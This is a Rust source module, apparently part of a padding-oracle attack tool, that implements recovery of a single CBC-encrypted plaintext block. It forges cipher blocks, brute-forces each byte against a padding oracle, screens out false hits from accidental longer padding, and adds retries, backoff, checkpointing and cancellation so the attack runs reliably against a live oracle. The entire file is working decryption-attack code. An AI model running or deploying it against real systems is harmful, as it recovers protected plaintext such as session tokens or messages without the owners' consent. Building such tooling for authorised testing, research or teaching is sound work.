// Recovery of a single plaintext block.
//
// See `crate::forge` for the arithmetic. The recoverer walks padding
// lengths 1..=B, searching trial bytes 0..=255 for each, and records every
// confirmed byte in a `RecoveryState` so that an interrupted search can be
// picked up where it stopped.
//
// At padding length 1 a hit is not necessarily `0x01`: if the byte before it
// happens to decrypt to `0x02`, the trial byte producing `0x02` is accepted
// too (likewise `0x03 0x03 0x03`, ...). Every hit at padding length 1 is
// therefore confirmed by re-asking with the second-to-last forged byte
// flipped. Genuine `0x01` padding does not care about that byte, any longer
// padding is broken by it.

use crate::{
    config::check_block_size,
    forge::{build_candidate, next_adjustment, recovered_byte},
    Cancellation, PaddingOracle, RecoveryConfig, RecoveryError, RecoveryState, RetryPolicy,
};

use rand::Rng;
use tracing::{debug, info, warn};

pub struct BlockRecoverer<'a, O: ?Sized> {
    oracle: &'a O,
    block_size: usize,
    retry: RetryPolicy,
    cancellation: Option<Cancellation>,
    filler: Option<Vec<u8>>,
}

impl<'a, O: PaddingOracle + ?Sized> BlockRecoverer<'a, O> {
    pub fn new(oracle: &'a O, config: &RecoveryConfig) -> Self {
        Self {
            oracle,
            block_size: config.block_size,
            retry: config.retry,
            cancellation: None,
            filler: None,
        }
    }

    pub fn with_cancellation(mut self, cancellation: Cancellation) -> Self {
        self.cancellation = Some(cancellation);
        self
    }

    /// Use fixed filler bytes instead of random ones, making the sequence of
    /// queries reproducible.
    pub fn with_filler(mut self, filler: Vec<u8>) -> Self {
        self.filler = Some(filler);
        self
    }

    /// Recovers the plaintext of `target`, where `prev` is the real block in
    /// front of it (the IV for the first cipher block).
    pub fn recover(&self, prev: &[u8], target: &[u8]) -> Result<Vec<u8>, RecoveryError> {
        let mut state = RecoveryState::new();
        self.resume(prev, target, &mut state)
    }

    /// Continues a recovery from `state`. The state is updated after every
    /// recovered byte, so on error it holds the last good checkpoint.
    pub fn resume(
        &self,
        prev: &[u8],
        target: &[u8],
        state: &mut RecoveryState,
    ) -> Result<Vec<u8>, RecoveryError> {
        check_block_size(self.block_size)?;
        self.check_block("previous", prev)?;
        self.check_block("target", target)?;
        state.validate(prev)?;
        let filler = self.filler()?;

        let mut queries = 0u64;
        for pad_len in state.next_pad_len()..=self.block_size {
            let trial_byte =
                self.find_trial_byte(&filler, pad_len, &state.adjustment, target, &mut queries)?;
            let byte = recovered_byte(pad_len, prev[self.block_size - pad_len], trial_byte);
            let suffix = [&[trial_byte][..], &state.adjustment].concat();
            state.record(byte, next_adjustment(&suffix, pad_len));
            debug!(pad_len, byte, queries, "recovered plaintext byte");
        }

        info!(queries, "recovered block");
        Ok(state.plaintext_block())
    }

    fn find_trial_byte(
        &self,
        filler: &[u8],
        pad_len: usize,
        adjustment: &[u8],
        target: &[u8],
        queries: &mut u64,
    ) -> Result<u8, RecoveryError> {
        let mut rejected = Vec::new();
        for trial_byte in 0..=u8::MAX {
            let forged = build_candidate(filler, pad_len, trial_byte, adjustment)?;
            if !self.ask(&forged, target, queries)? {
                continue;
            }
            if pad_len == 1
                && self.block_size > 1
                && !self.is_single_byte_padding(filler, trial_byte, target, queries)?
            {
                debug!(trial_byte, "rejected hit with accidental longer padding");
                rejected.push(trial_byte);
                continue;
            }
            return Ok(trial_byte);
        }

        if rejected.is_empty() {
            Err(RecoveryError::OracleInconsistency { pad_len })
        } else {
            Err(RecoveryError::AmbiguousPadding {
                candidates: rejected,
            })
        }
    }

    fn is_single_byte_padding(
        &self,
        filler: &[u8],
        trial_byte: u8,
        target: &[u8],
        queries: &mut u64,
    ) -> Result<bool, RecoveryError> {
        let flipped = filler[self.block_size - 2] ^ 0x01;
        let forged = build_candidate(filler, 2, flipped, &[trial_byte])?;
        self.ask(&forged, target, queries)
    }

    fn ask(&self, forged: &[u8], target: &[u8], queries: &mut u64) -> Result<bool, RecoveryError> {
        let candidate = [forged, target].concat();
        let mut attempts = 0u32;
        loop {
            if self
                .cancellation
                .as_ref()
                .is_some_and(Cancellation::is_cancelled)
            {
                return Err(RecoveryError::Cancelled);
            }

            attempts += 1;
            *queries += 1;
            match self.oracle.query(&candidate) {
                Ok(valid) => return Ok(valid),
                Err(e) if !e.is_transient() => {
                    return Err(RecoveryError::malformed(e.to_string()));
                }
                Err(e) if attempts <= self.retry.max_retries => {
                    warn!(attempts, error = %e, "oracle query failed, retrying");
                    std::thread::sleep(self.retry.backoff());
                }
                Err(e) => {
                    return Err(RecoveryError::OracleTransientFailure {
                        attempts,
                        source: e,
                    })
                }
            }
        }
    }

    fn check_block(&self, name: &str, block: &[u8]) -> Result<(), RecoveryError> {
        if block.len() != self.block_size {
            return Err(RecoveryError::malformed(format!(
                "{name} block is {} bytes, expected {}",
                block.len(),
                self.block_size
            )));
        }
        Ok(())
    }

    fn filler(&self) -> Result<Vec<u8>, RecoveryError> {
        match &self.filler {
            Some(filler) => {
                self.check_block("filler", filler)?;
                Ok(filler.clone())
            }
            None => {
                let mut filler = vec![0u8; self.block_size];
                rand::thread_rng().fill(&mut filler[..]);
                Ok(filler)
            }
        }
    }
}
